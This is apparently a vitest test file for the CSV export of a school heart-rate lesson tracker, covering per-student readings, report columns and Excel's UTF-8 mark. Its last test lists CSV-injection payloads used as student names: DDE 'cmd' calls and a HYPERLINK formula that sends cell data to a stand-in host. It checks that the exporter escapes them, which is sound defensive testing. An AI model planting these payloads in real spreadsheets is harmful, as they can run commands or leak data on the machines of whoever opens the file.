import { expect, test } from 'vitest'
import type { LessonReport, RecordedAlert, StudentFigures } from '../../../domain/record.ts'
import type { Series } from '../../../domain/series.ts'
import { type ReportWords, reportCsvOf, seriesCsvOf } from '../../../record/files/write-csv.ts'

const unknown = Number.NaN
const textOf = (series: Series) => [...seriesCsvOf(series)].join('')

test('a student’s readings: ms and ISO time, empty where unknown', () => {
  const csv = textOf({
    t: Float64Array.of(1_772_445_600_000, 1_772_445_601_007),
    bpm: Float64Array.of(141.5, unknown),
    contact: Float64Array.of(1, 0),
    enmo: Float64Array.of(180, unknown),
    steps: Float64Array.of(0, unknown),
  })
  expect(csv).toBe(
    't,time,bpm,contact,enmo,steps\r\n1772445600000,2026-03-02T10:00:00.000Z,141.5,1,180,0\r\n1772445601007,2026-03-02T10:00:01.007Z,,0,,\r\n',
  )
})

const english: ReportWords = {
  columns: {
    name: 'Name',
    coverage: 'Heart rate known, %',
    belowZones: 'Below zone 1, min',
    zone1: 'Zone 1, min',
    zone2: 'Zone 2, min',
    zone3: 'Zone 3, min',
    zone4: 'Zone 4, min',
    zone5: 'Zone 5, min',
    mean: 'Mean',
    max: 'Max',
    mvpa: 'MVPA, %',
    density: 'Density, %',
    load: 'Load',
    recovery: 'Recovery',
    effort: 'Effort',
    alerts: 'Alerts',
  },
  efforts: { gentle: 'gentle', steady: 'steady', strong: 'strong', 'very-strong': 'very strong' },
  rule: rule => ({ 'high-for-motion': 'Faster than expected', sos: 'Asked for help' })[rule] ?? rule,
}
const chinese: ReportWords = { ...english, columns: { ...english.columns, name: '姓名' }, efforts: { ...english.efforts, strong: '较强' } }

const ana: StudentFigures = {
  lessonSeconds: 2700,
  wornSeconds: 2650,
  heartSeconds: 2565,
  motionSeconds: 2600,
  zoneSeconds: [300, 465, 600, 720, 420, 60],
  bpmMean: 141.26,
  bpmMax: 187,
  mvpaSeconds: 1450,
  mvpaShare: 0.5653,
  activeSeconds: 1900,
  density: 0.717,
  edwards: 98.25,
  banister: 71.4,
  recovery: { stoppedAt: 1_772_448_000_000, endBpm: 170, afterBpm: 173, dropBpm: -3, index: null },
  effort: 'strong',
}
const nothing: StudentFigures = {
  ...ana,
  heartSeconds: 0,
  zoneSeconds: [0, 0, 0, 0, 0, 0],
  bpmMean: null,
  bpmMax: null,
  mvpaShare: null,
  density: null,
  edwards: null,
  banister: null,
  recovery: null,
  effort: null,
}

const alert = (student: string, rule: string): RecordedAlert => ({
  id: `${student}-${rule}`,
  rule,
  severity: 'medium',
  student,
  firedAt: 1_772_446_000_000,
  resolvedAt: null,
  outcome: null,
  value: 192,
  expected: 150,
  why: '',
  ledger: [],
})

const report = (students: { id: string; name: string; figures: StudentFigures | null }[], alerts: RecordedAlert[] = []): LessonReport => ({
  lesson: { id: 'l1', kind: 'lesson', class: 'c1', title: '5B', startsAt: 1_772_445_600_000, endsAt: 1_772_448_300_000, phases: [] },
  figures: null,
  students: students.map(student => ({ ...student, consent: student.figures !== null })),
  alerts,
  past: [],
  catchingUpSince: null,
})

test('a report: one line a student, empty where there is nothing to tell from', () => {
  const alerts = [alert('ana', 'high-for-motion'), alert('ben', 'sos'), alert('ana', 'sos'), alert('ana', 'high-for-motion')]
  const students = [
    { id: 'ana', name: 'Ana', figures: ana },
    { id: 'ben', name: 'Ben', figures: nothing },
    { id: 'cem', name: 'Cem', figures: null },
  ]
  expect(reportCsvOf(report(students, alerts), english).split('\r\n')).toEqual([
    '\uFEFFName,"Heart rate known, %","Below zone 1, min","Zone 1, min","Zone 2, min","Zone 3, min","Zone 4, min","Zone 5, min",Mean,Max,"MVPA, %","Density, %",Load,Recovery,Effort,Alerts',
    'Ana,95,5,7.8,10,12,7,1,141.3,187,57,72,98.3,-3,strong,Faster than expected × 2 / Asked for help',
    'Ben,0,0,0,0,0,0,0,,,,,,,,Asked for help',
    'Cem,,,,,,,,,,,,,,,',
    '',
  ])
})

test('Excel reads Chinese: UTF-8 with its mark', () => {
  const bytes = Buffer.from(reportCsvOf(report([{ id: 'mei', name: '王美', figures: ana }]), chinese))
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  expect(bytes.toString()).toMatch(/^\uFEFF姓名,.*\r\n王美,95,.*,较强,\r\n$/)
})

/** Payloads that spreadsheets have run: OWASP "CSV Injection", and their usual variations. */
test.each([
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://x.example?n="&A1,"Ana")', `"'=HYPERLINK(""http://x.example?n=""&A1,""Ana"")"`],
  ['=1+1', "'=1+1"],
  ['+1+1', "'+1+1"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ['\t=1+1', `"'\t=1+1"`],
  ['\r=1+1', `"'\r=1+1"`],
  ['\n=1+1', `"'\n=1+1"`],
  ['＝1+1', "'＝1+1"],
  ['＠SUM(1)', "'＠SUM(1)"],
  ['Ana";=1+1', '"Ana"";=1+1"'],
  ['Ana,=1+1', '"Ana,=1+1"'],
  ['Ana\n=1+1', '"Ana\n=1+1"'],
  ['Ana "Bee" Silva', '"Ana ""Bee"" Silva"'],
  ["O'Neil", "O'Neil"],
  ['Jean-Luc', 'Jean-Luc'],
])('a name is text to a spreadsheet: %j', (name, cell) => {
  const csv = reportCsvOf(report([{ id: 'ana', name, figures: null }]), english)
  expect(csv.slice(csv.indexOf('Alerts\r\n') + 8)).toBe(`${cell},,,,,,,,,,,,,,,\r\n`)
})
